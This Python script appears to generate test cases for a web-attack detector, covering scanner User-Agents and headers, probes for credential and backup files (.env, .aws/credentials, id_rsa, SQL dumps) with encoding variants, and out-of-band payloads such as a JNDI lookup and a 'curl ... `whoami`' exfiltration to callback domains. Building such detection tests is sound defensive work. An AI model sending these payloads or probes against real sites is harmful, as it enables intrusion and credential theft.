"""Security scanners and attack tools: ``attacks/1020-scanners.yaml``.

Three kinds of requests:

- the User-Agent strings tools send by default (version numbers vary; the
  product names do not), and headers some of them add to every request;
- fetches of files that a site never serves on purpose: version-control
  metadata (.git, .svn, .hg), environment and credential files (.env,
  .aws/credentials, id_rsa, .npmrc), editor and OS droppings (.DS_Store,
  .swp, .idea), backups of source files (index.php.bak, config.php~), SQL
  dumps, server configuration (web.config, .htpasswd), Spring Boot actuator
  dumps. Each in plain form, upper/mixed case and percent-encoded;
- payloads carrying the out-of-band interaction domains of scanners (Burp
  Collaborator, interactsh/nuclei, Acunetix, DNS log services), which show a
  scanner is probing for blind injection.

Paths that are legitimate on some sites (/wp-admin/, /xmlrpc.php,
/phpinfo.php, /server-status, /.well-known/...) are not here.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote, quote_plus

from common import API_HEADERS, BROWSER_HEADERS, case, request, write

FAMILY = "scanner"

USER_AGENTS = [
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "sqlmap/1.4.7#dev (http://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0",
    "feroxbuster/2.10.4",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) dirsearch/0.4.3",
    "Arachni/v1.5.1",
    "w3af.org",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    "Nessus SOAP v0.0.1 (Nessus.org)",
    "WhatWeb/0.5.5",
    "commix/v3.9-stable (https://commixproject.com)",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
    "Mozilla/5.0 (compatible; Netsparker)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple "
    "times per day to identify customers' presences on the Internet.",
    "l9explore/1.2.2",
    "Mozilla/5.0 (l9scan/2.0.134313e2e37313e26313e2134313e2; +https://leakix.net)",
    "Mozilla/5.0 Jorgee",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "Mozilla/4.0 (Hydra)",
    "xsser/1.8[4]: 'The Hiv3!' - (https://xsser.03c8.net)",
    "Havij",
    "sqlninja",
    "Mozilla/5.0 (compatible; Wapiti/3.1.8)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1) WebInspect",
    "Mozilla/5.0 (compatible; Qualys WAS)",
    "httpx - Open-source project (github.com/projectdiscovery/httpx)",
    "Mozilla/5.0 (compatible; NetSystemsResearch studies the availability of various services "
    "across the internet. Our website is netsystemsresearch.com)",
    "Jaeles - Automate Web Security Testing",
    "Mozilla/5.0 (compatible; Metasploit RSPEC)",
]

SCANNER_HEADERS = [
    ({"Acunetix-Product": "WVS/14.0 (Acunetix Web Vulnerability Scanner - Normal)",
      "Acunetix-Scanning-agreement": "Third Party Scanning PROHIBITED",
      "Acunetix-User-agreement": "http://www.acunetix.com/wvs/disc.htm"},
     "Acunetix headers with a browser User-Agent"),
    ({"Acunetix-Aspect": "enabled", "Acunetix-Aspect-Password": "082119f75623eb7abd7bf357698ff66c"},
     "Acunetix AcuSensor headers"),
    ({"X-Scanner": "Netsparker"}, "Netsparker X-Scanner header"),
    ({"X-WIPP": "AscVersion=22.2.0"}, "WebInspect X-WIPP header"),
]

# Files a site never serves on purpose: (path, description).
PROBE_PATHS = [
    ("/.git/config", "git repository config"),
    ("/.git/HEAD", "git HEAD"),
    ("/.git/logs/HEAD", "git reflog"),
    ("/app/.git/index", "git index under a sub-path"),
    ("/.svn/entries", "Subversion entries"),
    ("/.svn/wc.db", "Subversion working copy database"),
    ("/.hg/hgrc", "Mercurial config"),
    ("/.bzr/branch/branch.conf", "Bazaar branch config"),
    ("/CVS/Root", "CVS root"),
    ("/.env", "dotenv file"),
    ("/.env.production", "dotenv file (production)"),
    ("/api/.env", "dotenv file under /api"),
    ("/.env.bak", "dotenv backup"),
    ("/.DS_Store", "macOS Finder metadata"),
    ("/.htpasswd", "Apache password file"),
    ("/.htaccess", "Apache per-directory config"),
    ("/web.config", "IIS/ASP.NET config"),
    ("/.aws/credentials", "AWS credentials"),
    ("/.ssh/id_rsa", "SSH private key"),
    ("/id_rsa", "SSH private key at the web root"),
    ("/.npmrc", "npm token file"),
    ("/.docker/config.json", "Docker registry credentials"),
    ("/.bash_history", "shell history"),
    ("/.git-credentials", "git credential store"),
    ("/.vscode/sftp.json", "VS Code SFTP credentials"),
    ("/sftp-config.json", "Sublime SFTP credentials"),
    ("/.idea/workspace.xml", "JetBrains workspace"),
    ("/index.php.bak", "PHP source backup"),
    ("/wp-config.php~", "editor backup of wp-config.php"),
    ("/config.php.save", "nano save file"),
    ("/.index.php.swp", "vim swap file"),
    ("/includes/db.inc.old", "old include file"),
    ("/settings.py.orig", "patch leftover"),
    ("/backup.sql", "SQL dump"),
    ("/db.sql.gz", "compressed SQL dump"),
    ("/dump.sql", "SQL dump"),
    ("/backup.zip", "site backup archive"),
    ("/www.tar.gz", "site backup archive"),
    ("/WEB-INF/web.xml", "Java deployment descriptor"),
    ("/META-INF/MANIFEST.MF", "Java manifest"),
    ("/actuator/env", "Spring Boot environment dump"),
    ("/actuator/heapdump", "Spring Boot heap dump"),
    ("/docker-compose.yml", "Docker Compose file"),
    ("/storage/logs/laravel.log", "Laravel log"),
    ("/nice%20ports%2C/Tri%6Eity.txt%2ebak", "Nmap service probe"),
]

OOB_PAYLOADS = [
    ("http://7x3k9q2b.oastify.com/", "query", "Burp Collaborator URL"),
    ("nslookup x1.bd9f3c.burpcollaborator.net", "form", "Burp Collaborator lookup"),
    ("${jndi:ldap://c8k2m1.oast.fun/a}", "header", "interactsh host in a JNDI lookup"),
    ("http://cn4b1s2.oast.pro", "json", "interactsh URL"),
    ("http://cn4b1s2.oast.live/x", "query", "interactsh URL"),
    ("'||(select extractvalue(xmltype('<x>'),'/l') from dual)||'.d3k1.interact.sh", "cookie",
     "interact.sh host in an Oracle payload"),
    ("http://testasp.vulnweb.com/t/fit.txt", "query", "Acunetix test file"),
    ("http://hit8kx3m2b1qd.bxss.me/", "form", "Acunetix bxss.me"),
    ("ping -c 3 x9f2.dnslog.cn", "form", "dnslog.cn ping"),
    ("curl http://8f7e.ceye.io/`whoami`", "json", "ceye.io exfiltration"),
    ("acunetix-wvs-test-for-some-inexistent-file", "path", "Acunetix 404 probe"),
    ("<script src=//r87.me/x.js></script>", "query", "Netsparker r87.me"),
]


def scan(stage_input: dict[str, Any], desc: str, placement: str, encoding: str = "plain",
         technique: str = "") -> dict[str, Any]:
    tags = [f"placement:{placement}", f"encoding:{encoding}", f"technique:{technique}"]
    return case(stage_input, family=FAMILY, attack=True, desc=desc, tags=tags)


def encode_path(path: str, how: str) -> str:
    if how == "mixed-case":
        return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(path))
    if how == "url":  # every dot percent-encoded (servers decode once)
        return path.replace(".", "%2e")
    if how == "double-url":
        return path.replace(".", "%252e")
    return path


def build() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for ua in USER_AGENTS:
        out.append(scan(request("GET", "/", {**BROWSER_HEADERS, "User-Agent": ua}),
                        f"User-Agent: {ua[:90]}", "header", technique="user-agent"))
    # A few tools against an API and with a path they typically request.
    for ua, path in [("sqlmap/1.8.2#stable (https://sqlmap.org)", "/api/v1/products?id=1"),
                     ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
                      "/cgi-bin/test-cgi"),
                     ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                      "/api/v1/users")]:
        out.append(scan(request("GET", path, {**API_HEADERS, "User-Agent": ua}),
                        f"User-Agent {ua[:40]} on {path}", "header", technique="user-agent"))
    out.append(scan(request("GET", "/", {**BROWSER_HEADERS, "User-Agent": "SQLMAP/1.8"}),
                    "User-Agent in upper case", "header", "mixed-case", "user-agent"))
    for headers, desc in SCANNER_HEADERS:
        out.append(scan(request("GET", "/", {**BROWSER_HEADERS, **headers}), desc, "header",
                        technique="scanner-header"))
    for i, (path, desc) in enumerate(PROBE_PATHS):
        out.append(scan(request("GET", path, BROWSER_HEADERS), f"{path}: {desc}", "path",
                        technique="sensitive-file"))
        # every third path again under an encoding scanners and evasion tools use
        if i % 3 == 0 and "%" not in path:
            how = ("mixed-case", "url", "double-url")[(i // 3) % 3]
            tag = {"url": "url-encoded-dot"}.get(how, how)
            out.append(scan(request("GET", encode_path(path, how), BROWSER_HEADERS),
                            f"{path} ({how}): {desc}", "path", tag, "sensitive-file"))
    for payload, placement, desc in OOB_PAYLOADS:
        if placement == "query":
            inp = request("GET", f"/search?q={quote_plus(payload)}")
        elif placement == "path":
            inp = request("GET", "/" + quote(payload))
        elif placement == "form":
            body = f"name=test&comment={quote_plus(payload)}"
            inp = request("POST", "/contact",
                          {**BROWSER_HEADERS, "Content-Type": "application/x-www-form-urlencoded"},
                          body)
        elif placement == "json":
            import json
            inp = request("POST", "/api/v1/webhooks", {**API_HEADERS,
                                                       "Content-Type": "application/json"},
                          json.dumps({"url": payload, "events": ["order.created"]}))
        elif placement == "header":
            inp = request("GET", "/", {**BROWSER_HEADERS, "X-Api-Version": payload})
        else:
            inp = request("GET", "/account", {**BROWSER_HEADERS,
                                              "Cookie": f"session=abc; pref={quote(payload)}"})
        out.append(scan(inp, desc, placement, technique="oob-domain"))
    return out


def main() -> None:
    write("attacks/1020-scanners.yaml", 1020000,
          "Security scanners: tool User-Agents and headers, probes for files never served, "
          "out-of-band interaction domains", build())


if __name__ == "__main__":
    main()
